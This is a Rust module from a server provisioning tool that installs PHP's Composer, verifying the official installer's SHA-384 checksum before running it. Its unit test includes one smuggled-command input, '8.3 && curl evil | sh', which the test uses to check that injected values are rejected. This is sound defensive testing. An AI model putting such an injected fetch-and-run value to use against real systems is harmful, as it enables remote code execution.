//! Composer, PHP's dependency manager, installed system-wide as `composer`, with
//! unzip and Git, which it uses to fetch packages (and which site deployments use).
//!
//! The distribution's `composer` package is used when it fits: when the server's PHP
//! for Composer is the release's own PHP version and no third-party PHP repository is
//! configured. Otherwise the distribution's package would pull in another PHP (it
//! depends on the unversioned `php-cli`, which a PHP repository points at its newest
//! version), so Composer comes from getcomposer.org's official installer instead,
//! verified before it runs: the installer and its published SHA-384
//! (`composer.github.io/installer.sig`) are downloaded over HTTPS, `sha384sum --check`
//! compares them, and only a match lets the installer run (with the chosen PHP
//! version) into `/usr/local/bin/composer`. A mismatch fails the step with
//! `sha384sum`'s `FAILED` message and nothing is installed.
//!
//! Facts: the release, the package states, the PHP repository lines in APT's sources,
//! and what is at `/usr/local/bin/composer`. Composer already present either way
//! makes the plan a no-op.

use std::time::Duration;

use brokeforge_core::{Cmd, PhpVersion, Plan, Record, RemotePath};
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::apt::{self, DebianPackage};
use crate::facts::{
    FactError, FactProbe, FileKind, PackageStates, ProbeOutputs, package_states_cmd, parse_package_states,
    parse_path_kinds, path_kinds_cmd,
};
use crate::framework::{Action, Operation, Package, Scope};
use crate::names::PackageName;
use crate::os::{OsRelease, UnsupportedOs, os_release_cmd, parse_os_release};
use crate::php::names::{self as php_names, cli_binary};
use crate::repository::{RepositoryFamily, SourceLine, parse_source_lines, source_lines_cmd};
use crate::time_sync::DISTRO_VERSION;

/// The Debian package.
pub const COMPOSER_PACKAGE: &str = "composer";
/// Where the official installer puts Composer.
pub const LOCAL_COMPOSER_PATH: &str = "/usr/local/bin/composer";
/// Where the installer and its checksum are downloaded, readable by root only.
pub const DOWNLOAD_DIRECTORY: &str = "/var/cache/brokeforge/composer";
/// The official installer.
pub const INSTALLER_URL: &str = "https://getcomposer.org/installer";
/// The installer's published SHA-384.
pub const INSTALLER_CHECKSUM_URL: &str = "https://composer.github.io/installer.sig";
/// How long one download may take.
pub const DOWNLOAD_TIMEOUT: Duration = Duration::from_secs(5 * 60);

/// The record's value for Composer from the official installer.
const INSTALLER_SOURCE: &str = "getcomposer.org";

/// Probe keys.
const OS_PROBE: &str = "os_release";
const PACKAGES_PROBE: &str = "composer_packages";
const PHP_SOURCES_PROBE: &str = "php_apt_sources";
const LOCAL_COMPOSER_PROBE: &str = "composer_local_binary";

/// Composer, a server package.
pub struct Composer;

impl Package for Composer {
    const NAME: PackageName = PackageName::Composer;
    const SCOPE: Scope = Scope::Server;
}

/// What installing Composer needs.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ComposerInstallInput {
    /// The installed PHP version Composer is installed with: normally the
    /// command-line default.
    pub php_version: PhpVersion,
}

/// What installing Composer reads from the server.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ComposerFacts {
    pub os: OsRelease,
    /// Packages matching `php*`, and composer, curl, ca-certificates, unzip and git.
    pub packages: PackageStates,
    /// Active APT source lines of a third-party PHP repository.
    pub php_repository_lines: Vec<SourceLine>,
    /// What is at `/usr/local/bin/composer`.
    pub local_composer: Option<FileKind>,
}

/// Why installing Composer refuses to plan. The messages are meant for users.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
pub enum ComposerInstallRefusal {
    #[error(transparent)]
    UnsupportedOs(#[from] UnsupportedOs),
    #[error("PHP {version} is not installed on this server; install it before Composer")]
    PhpNotInstalled { version: PhpVersion },
}

milestones! {
    /// Milestones of installing Composer.
    pub enum ComposerInstallMilestone {
        InstallPrerequisites => ("install_prerequisites", "Installing Composer's prerequisites"),
        DownloadInstaller => ("download_installer", "Downloading and verifying the Composer installer"),
        InstallComposer => ("install_composer", "Installing Composer"),
        Complete => ("complete", "Complete"),
    }
}

/// Installs Composer.
pub struct ComposerInstall;

impl Operation for ComposerInstall {
    type Package = Composer;
    const ACTION: Action = Action::Install;
    type Milestone = ComposerInstallMilestone;
    type Input = ComposerInstallInput;
    type Facts = ComposerFacts;
    type Error = ComposerInstallRefusal;

    fn fact_probes(_input: &ComposerInstallInput) -> Vec<FactProbe> {
        vec![
            FactProbe::new::<Composer>(OS_PROBE, os_release_cmd()),
            FactProbe::new::<Composer>(
                PACKAGES_PROBE,
                package_states_cmd(&["php*", COMPOSER_PACKAGE, "curl", "ca-certificates", "unzip", "git"]),
            ),
            FactProbe::new::<Composer>(
                PHP_SOURCES_PROBE,
                source_lines_cmd(RepositoryFamily::Php.source_patterns()),
            ),
            FactProbe::new::<Composer>(LOCAL_COMPOSER_PROBE, path_kinds_cmd(&[path(LOCAL_COMPOSER_PATH)])),
        ]
    }

    fn parse_facts(_input: &ComposerInstallInput, outputs: &ProbeOutputs) -> Result<ComposerFacts, FactError> {
        let local = [path(LOCAL_COMPOSER_PATH)];
        let kinds = outputs.read(LOCAL_COMPOSER_PROBE, |output| parse_path_kinds(output, &local))?;
        Ok(ComposerFacts {
            os: outputs.read(OS_PROBE, parse_os_release)?,
            packages: outputs.read(PACKAGES_PROBE, parse_package_states)?,
            php_repository_lines: outputs.read(PHP_SOURCES_PROBE, parse_source_lines)?,
            local_composer: kinds.into_iter().next().flatten(),
        })
    }

    fn plan(input: &ComposerInstallInput, facts: &ComposerFacts) -> Result<Plan, ComposerInstallRefusal> {
        let os = facts.os.supported()?;
        let version = input.php_version;
        if !facts.packages.is_installed(php_names::package(version, "cli").as_str()) {
            return Err(ComposerInstallRefusal::PhpNotInstalled { version });
        }
        let from_distribution = facts.packages.is_installed(COMPOSER_PACKAGE);
        let from_installer = facts.local_composer == Some(FileKind::RegularFile);
        let use_distribution = if from_distribution || from_installer {
            from_distribution
        } else {
            os.distro_php_version() == version && facts.php_repository_lines.is_empty()
        };
        let present = from_distribution || from_installer;
        let mut plan = Self::plan_writer();

        let steps = plan.milestone(ComposerInstallMilestone::InstallPrerequisites);
        if !present && !use_distribution {
            let prerequisites = ["curl", "ca-certificates", "unzip", "git"].map(DebianPackage::from_static);
            for cmd in apt::commands_to_install_all(&prerequisites, &facts.packages, false) {
                steps.run_with_timeout(cmd, apt::APT_TIMEOUT);
            }
        }

        let steps = plan.milestone(ComposerInstallMilestone::DownloadInstaller);
        if !present && !use_distribution {
            steps
                .run(
                    Cmd::new("install")
                        .lit("-d")
                        .lit("-m")
                        .lit("0700")
                        .lit("--")
                        .lit(DOWNLOAD_DIRECTORY),
                )
                .run_with_timeout(download_cmd(INSTALLER_URL, "composer-setup.php"), DOWNLOAD_TIMEOUT)
                .run_with_timeout(download_cmd(INSTALLER_CHECKSUM_URL, "installer.sig"), DOWNLOAD_TIMEOUT)
                .run(verify_installer_cmd());
        }

        let steps = plan.milestone(ComposerInstallMilestone::InstallComposer);
        if !present {
            if use_distribution {
                let packages = [COMPOSER_PACKAGE, "unzip", "git"].map(DebianPackage::from_static);
                for cmd in apt::commands_to_install_all(&packages, &facts.packages, false) {
                    steps.run_with_timeout(cmd, apt::APT_TIMEOUT);
                }
            } else {
                steps
                    .run(
                        Cmd::new(cli_binary(version))
                            .lit("/var/cache/brokeforge/composer/composer-setup.php")
                            .lit("--no-ansi")
                            .lit("--quiet")
                            .lit("--install-dir=/usr/local/bin")
                            .lit("--filename=composer"),
                    )
                    .run(Cmd::new("rm").lit("-rf").lit("--").lit(DOWNLOAD_DIRECTORY));
            }
        }

        plan.milestone(ComposerInstallMilestone::Complete).persist(
            Record::new(Composer::TYPE.as_str(), Composer::NAME.as_str(), "2").with_configuration(serde_json::json!({
                "source": if use_distribution { DISTRO_VERSION } else { INSTALLER_SOURCE },
                "php_version": version,
            })),
        );
        Ok(plan.finish())
    }
}

/// Downloads `url` over HTTPS only into `file` of the download directory, failing on
/// HTTP errors.
fn download_cmd(url: &'static str, file: &'static str) -> Cmd {
    let target = path(DOWNLOAD_DIRECTORY).join(file).expect("a file name");
    Cmd::new("curl")
        .lit("-fsSL")
        .lit("--proto")
        .lit("=https")
        .lit("--tlsv1.2")
        .lit("--retry")
        .lit("3")
        .lit("--max-time")
        .lit("120")
        .lit("-o")
        .arg(&target)
        .lit(url)
}

/// Checks the installer against its published SHA-384: the checksum file holds the
/// bare digest, which awk turns into a `DIGEST  FILE` line for `sha384sum --check`.
/// A mismatch (or an empty or malformed checksum) exits non-zero and stops the plan.
fn verify_installer_cmd() -> Cmd {
    Cmd::new("awk")
        .lit("'{ print $1 \"  /var/cache/brokeforge/composer/composer-setup.php\" }'")
        .lit("/var/cache/brokeforge/composer/installer.sig")
        .pipe(Cmd::new("sha384sum").lit("--check").lit("--strict"))
}

fn path(text: &str) -> RemotePath {
    text.parse().expect("a valid absolute path")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_check_reads_the_published_digest() {
        assert_eq!(
            verify_installer_cmd().to_string(),
            "awk '{ print $1 \"  /var/cache/brokeforge/composer/composer-setup.php\" }' \
             /var/cache/brokeforge/composer/installer.sig | sha384sum --check --strict"
        );
        assert!(serde_json::from_str::<ComposerInstallInput>(r#"{"php_version":"8.3 && curl evil | sh"}"#).is_err());
    }
}
